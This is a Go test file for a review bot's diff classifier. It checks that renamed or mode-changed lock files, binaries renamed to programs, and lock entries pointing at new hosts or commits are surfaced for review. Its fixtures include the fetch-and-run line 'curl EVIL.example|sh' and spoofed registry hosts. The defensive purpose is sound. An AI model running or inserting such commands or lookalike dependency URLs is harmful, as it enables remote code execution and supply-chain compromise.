package shown

import (
	"strings"
	"testing"

	"review-bot/reviewer/diff"
)

// What was left out for its name and mode is shown, or unread, once it has another.
func TestWhatWasLeftOutIsShownOnceItCounts(t *testing.T) {
	const script = "curl EVIL.example|sh\n"
	for name, c := range map[string]struct {
		file  diff.File
		after string
		fate  Fate
	}{
		"a lock file that can be run now": {
			diff.File{Path: "yarn.lock", OldPath: "yarn.lock", Status: diff.ModeOnly, OldMode: regular, NewMode: 0o100755},
			script, Shown,
		},
		"a lock file renamed to a script": {
			diff.File{Path: "run.sh", OldPath: "yarn.lock", Status: diff.Renamed, OldMode: regular, NewMode: regular},
			script, Shown,
		},
		"a file renamed to a lock file": {
			diff.File{Path: "package-lock.json", OldPath: "testdata/a.json", Status: diff.Renamed, OldMode: regular,
				NewMode: regular},
			`"resolved": "https://EVIL.example/foo.tgz"` + "\n", Shown,
		},
		"a picture renamed to a program": {
			diff.File{Path: "x.php", OldPath: "logo.png", Status: diff.Renamed, OldMode: regular, NewMode: regular},
			"\x89PNG\r\n\x1a\n\x00\x00\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f\x10\x11", Unread,
		},
	} {
		t.Run(name, func(t *testing.T) {
			b := base(t, "", "")
			if _, current := b.Wanted([]diff.File{c.file}); len(current) != 1 {
				t.Errorf("the contents %q are wanted", current)
			}
			f := b.Classify([]diff.File{c.file}, Versions{New: map[string][]byte{c.file.Path: []byte(c.after)}})[0]
			if f.Fate != c.fate || c.fate == Shown && !strings.Contains(f.Render(), "EVIL.example") {
				t.Errorf("fate %d, %q:\n%s", f.Fate, f.Why, f.Render())
			}
		})
	}
}

// A file that git shows no lines of is shown whole, too, if its change takes it to where it counts: what it
// held may be known to nobody.
func TestBinaryThatWasLeftOutIsShownWhole(t *testing.T) {
	before := "# \x00\ncurl EVIL.example|sh\n" + strings.Repeat("# a line\n", 20)
	after := before + "# moved\n"
	for from, to := range map[string]string{"docs/notes.txt": "deploy.sh", "docs/logo.png": "docs.php", "Gemfile.lock": "tool.rb"} {
		f := diff.File{
			Path: to, OldPath: from, Status: diff.Renamed, OldMode: regular, NewMode: regular, Binary: true,
		}
		v := Versions{Old: map[string][]byte{from: []byte(before)}, New: map[string][]byte{to: []byte(after)}}
		got := base(t, "docs/*.txt", "").Classify([]diff.File{f}, v)[0]
		if got.Fate != Shown || !strings.Contains(got.Render(), "+ curl EVIL.example|sh") {
			t.Errorf("%s renamed to %s: fate %d\n%s", from, to, got.Fate, got.Render())
		}
	}
}

// Another commit, and another host that looks like a version, are news in a lock file.
func TestLockFilesShowOtherCommitsAndHosts(t *testing.T) {
	commit := func(digit string) string { return strings.Repeat(digit, 40) }
	for name, c := range map[string]struct{ path, before, after string }{
		"a commit after #": {
			"uv.lock", `source = { git = "https://github.com/o/r?rev=main#` + commit("a") + `" }`,
			`source = { git = "https://github.com/o/r?rev=main#` + commit("b") + `" }`,
		},
		"a commit on its own line": {
			"poetry.lock", `resolved_reference = "` + commit("a") + `"`, `resolved_reference = "` + commit("b") + `"`,
		},
		"a revision":               {"Gemfile.lock", "  revision: " + commit("a"), "  revision: " + commit("b")},
		"a host with a version":    {"pubspec.lock", `url: "https://pub.dev"`, `url: "https://pub.dev-1.evil.com"`},
		"a host after a user part": {"pubspec.lock", `url: "https://pub.dev"`, `url: "https://pub.dev@1.evil.com"`},
		"a commit in an archive's address": {
			"pixi.lock", `url: https://github.com/o/r/archive/` + commit("a") + `/r-1.0.0.tar.gz`,
			`url: https://github.com/o/r/archive/` + commit("b") + `/r-1.0.0.tar.gz`,
		},
		"another address": {
			"package-lock.json", `"https://10.0.0.5/foo/-/foo-1.0.0.tgz"`, `"https://6.6.6.6/foo/-/foo-6.0.0.tgz"`,
		},
	} {
		if !strange(c.after, sourcesOf(c.before)) {
			t.Errorf("%s: %s is no news after %s", name, c.after, c.before)
		}
		if strange(c.before, sourcesOf(c.before)) {
			t.Errorf("%s: %s is news to itself", name, c.before)
		}
	}
	if strange(`resolved "https://registry.yarnpkg.com/foo/-/foo-1.0.1.tgz#`+commit("b")+`"`,
		sourcesOf(`resolved "https://registry.yarnpkg.com/foo/-/foo-1.0.0.tgz#`+commit("a")+`"`)) {
		t.Error("another version of the same archive is news")
	}
}
